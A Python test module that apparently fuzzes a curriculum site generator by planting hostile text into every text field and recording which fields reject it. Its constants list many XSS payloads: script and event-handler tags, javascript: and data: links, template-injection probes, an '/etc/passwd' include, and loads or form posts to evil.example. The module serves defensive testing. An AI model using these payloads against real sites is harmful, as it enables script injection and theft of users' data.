"""Hostile texts for every text field of every kind: the fields come from the schema, so a new one joins.

The texts stand in the tiny curriculum. A field that it does not use is added where its group is, if the
model lets it be there.
"""

from __future__ import annotations

import copy
import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

import yaml

from generator import checks
from generator.field_reference import Form, allowed, form_of
from generator.fields import schema
from generator.model import KINDS, kind_of
from generator.problem import Problem, Severity
from tests.edits import Edited, originals

TEXTS = frozenset({"text", "markdown"})
ADDED_TO = frozenset({"bank", "accept"})
"""Lists whose entries other fields repeat, so that the text comes after them, not in their place."""
BEGINS = {("module", "Objective", "text"): "Explain "}
ENDS = {("quiz", "Cloze", "text"): " {purpose}"}
"""An objective begins with a verb; a text with gaps keeps the gap that its answers belong to."""
NEVER_SHOWN = frozenset({"Waiver"})
"""Groups that no page shows."""
# Each tries to run `PWN()`, to load something from elsewhere, or to break out of where it stands.
SCRIPTS = (
    "<script>PWN()</script>",
    "</script><script>PWN()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=PWN()>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=PWN()>",
    "<svg><script>PWN()</script></svg>",
    "<svg><animate onbegin=PWN() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=PWN()>",
    "<iframe srcdoc='<script>parent.PWN()</script>'></iframe>",
    "<iframe src=javascript:parent.PWN()></iframe>",
    "<object data=data:text/html,<script>PWN()</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=PWN()>",
    "<details open ontoggle=PWN()>",
    "<input autofocus onfocus=PWN()>",
    "<video><source onerror=PWN()></video>",
    "<audio src=x onerror=PWN()>",
    "<form action=//evil.example/><button>Send</button></form>",
    "<a href='javascript:PWN()' autofocus onfocus=PWN()>here</a>",
    "<template><script>PWN()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=PWN()>'>",
    "<div id=__config>{}</div><div id=__search></div>",
    "<!--><img src=x onerror=PWN()>-->",
    "<![CDATA[><script>PWN()</script>]]>",
    '" onmouseover=PWN() autofocus onfocus=PWN() x="',
    "' onfocus=PWN() autofocus x='",
    '"><script>PWN()</script>',
    "'><script>PWN()</script>",
    "</title><script>PWN()</script>",
    "</textarea><script>PWN()</script>",
    "</style><script>PWN()</script>",
    "&lt;script&gt;PWN()&lt;/script&gt;",
    "&#60;script&#62;PWN()&#60;/script&#62;",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${PWN()} #{PWN()} `PWN()` {{constructor.constructor('PWN()')()}}",
    "</SCRIPT ><script >PWN()</script >",
    "<a href=javascript:PWN()>here</a>",
    "**<b onclick=PWN()>bold</b>**",
    '`"><script>PWN()</script>`',
    '="site:/x" onclick="PWN()"',
    "{% include '/etc/passwd' %}",
)
LINKS = (
    "[x](javascript:PWN())",
    "[x](JaVaScRiPt:PWN())",
    "[x](java&#10;script:PWN())",
    "[x](data:text/html,<script>PWN()</script>)",
    "[x](vbscript:PWN())",
    "<javascript:PWN()>",
    "![x](https://evil.example/x.png)",
    "![x](x onerror=PWN())",
    '[x](https://example.org "onmouseover=PWN()")',
    "[x](https://example.org'onmouseover='PWN())",
)
"""What an editor is refused, so that no site is built with it."""
DRAWABLE = ("<a onclick=PWN()>", "<svg onload=PWN()>", "<b onmouseover=PWN()>")
"""For the words of a figure, whose places are small."""
GROUP = 12
"""How many of them stand in one field at a time."""
SMALL = 170
"""So many characters fit wherever a text is short, because its field or a rule says so."""


@dataclass(frozen=True)
class Target:
    """A text field of a kind: the file and the place in the tiny curriculum where it stands."""

    path: str
    place: tuple[int | str, ...]
    most: int
    """How many characters it may have."""

    @property
    def name(self) -> str:
        return f"{self.path}: {'.'.join(map(str, self.place))}"


def payloads() -> list[str]:
    """The texts in groups; each group holds several of them, one after another."""
    return [" ".join(SCRIPTS[at : at + GROUP]) for at in range(0, len(SCRIPTS), GROUP)]


@cache
def data() -> dict[str, Any]:
    """What the files of the tiny curriculum say."""
    return {
        path: yaml.load(text, Loader=yaml.CBaseLoader)
        for path, text in originals().items()
        if path.endswith(".yaml")
    }


def fields() -> set[tuple[str, str, str]]:
    """Every text field that the schemas know: the kind, the group and the field."""
    return {
        (kind.name, group, field)
        for kind in KINDS
        for whole in [schema(kind.adapter)]
        for group, found in [("", whole), *whole.get("$defs", {}).items()]
        if group not in NEVER_SHOWN
        for field, _ in _texts_of(found, whole)
    }


def _texts_of(found: dict[str, Any], whole: dict[str, Any]) -> Iterator[tuple[str, Form]]:
    """The text fields of a group, with what each holds."""
    for field, inner in found.get("properties", {}).items():
        form = form_of(allowed(inner), whole)
        if form.name in TEXTS:
            yield field, form


def targets() -> dict[tuple[str, str, str], Target]:
    """Each text field with the first place for it in the tiny curriculum."""
    found: dict[tuple[str, str, str], Target] = {}
    for path, file in data().items():
        kind = kind_of(path)
        assert kind is not None, path
        whole = schema(kind.adapter)
        for place, group, here, value in _groups(file, whole, whole, ()):
            for field, form in _texts_of(here, whole):
                last = len(value.get(field, ())) if field in ADDED_TO else 0
                tail = (field, last) if form.is_list else (field,)
                target = Target(path, (*place, *tail), form.most or 1200)
                found.setdefault((kind.name, group, field), target)
    return found


def _groups(
    value: Any, found: dict[str, Any], whole: dict[str, Any], place: tuple[int | str, ...]
) -> Iterator[tuple[tuple[int | str, ...], str, dict[str, Any], dict[str, Any]]]:
    """Every group of fields in a file: its place, the name of its model, its schema, what it says."""
    found = allowed(found)
    if isinstance(value, list):
        for number, entry in enumerate(value):
            yield from _groups(entry, found.get("items", {}), whole, (*place, number))
    elif isinstance(value, dict):
        if types := found.get("discriminator"):
            found = {"$ref": types["mapping"][value[types["propertyName"]]]}
        name = str(found.get("$ref", "")).rsplit("/", 1)[-1]
        here = whole["$defs"][name] if name else found
        yield place, name, here, value
        for field, inner in value.items():
            if field in here.get("properties", {}):
                yield from _groups(inner, here["properties"][field], whole, (*place, field))


def planted(places: dict[Target, str]) -> Edited:
    """The tiny curriculum with a text in each of these places."""
    changed = copy.deepcopy(data())
    for target, text in places.items():
        _put(changed[target.path], target.place, text)
    written = {
        path: yaml.safe_dump(whole, sort_keys=False, allow_unicode=True, width=10_000)
        for path, whole in changed.items()
    }
    return Edited({**originals(), **written})


def _put(whole: Any, place: tuple[int | str, ...], text: str) -> None:
    for step, following in itertools.pairwise(place):
        if isinstance(whole, dict) and step not in whole:
            whole[step] = [""] if following == 0 else {}
        whole = whole[step]
    last = place[-1]
    if isinstance(whole, list) and last == len(whole):
        whole.append(text)
    else:
        whole[last] = text


def attack(group: int) -> tuple[Edited, tuple[Target, ...]]:
    """The tiny curriculum with a group of texts in every field, and the fields that refuse them.

    A field refuses a text when a check says an error there: an address must be an address. It is
    tried with fewer texts first, other ones than its neighbours.
    """
    whole = {
        target: (name, number, _fitting(payloads()[group], target, group + number))
        for number, (name, target) in enumerate(targets().items())
    }
    texts = {target: _written(*how) for target, how in whole.items()}
    shortened: set[Target] = set()
    refused: list[Target] = []
    while problems := _errors(edited := planted(texts)):
        places, files = {found.place for found in problems}, {found.path for found in problems}
        near = [target for target in texts if target.path in files]
        out = [target for target in near if _place(edited, target) in places]
        assert out, "\n".join(map(str, problems))
        for target in out:
            name, number, text = whole[target]
            if target in shortened or len(text) <= SMALL:
                refused.append(target)
                del texts[target]
            else:
                texts[target] = _written(name, number, _some_of(group, SMALL, number))
        shortened |= set(out)
    return edited, tuple(refused)


def _written(name: tuple[str, str, str], number: int, text: str) -> str:
    return f"{BEGINS.get(name, '')}{text} {number}?{ENDS.get(name, '')}"


def _fitting(text: str, target: Target, number: int) -> str:
    """As much of a group as a field takes: all of it, or some of it, other ones each time."""
    if target.path.startswith("content/figures/") and "parts" in target.place:
        return DRAWABLE[number % len(DRAWABLE)]
    if len(text) + 6 <= target.most:
        return text
    return _some_of(payloads().index(text), min(target.most - 6, SMALL), number)


def _some_of(group: int, most: int, number: int) -> str:
    """Texts of a group, from one on, that have so many characters together."""
    scripts = SCRIPTS[group * GROUP : (group + 1) * GROUP]
    start = number * 4 % len(scripts)
    found = ""
    for script in (*scripts[start:], *scripts[:start]):
        if len(found) + len(script) < most:
            found = f"{found} {script}".lstrip()
    return found


def _errors(edited: Edited) -> tuple[Problem, ...]:
    found = checks.examine(edited.load())
    return tuple(problem for problem in found if problem.severity is Severity.ERROR)


def _place(edited: Edited, target: Target) -> str:
    return edited.place(target.path, ".".join(map(str, target.place)))
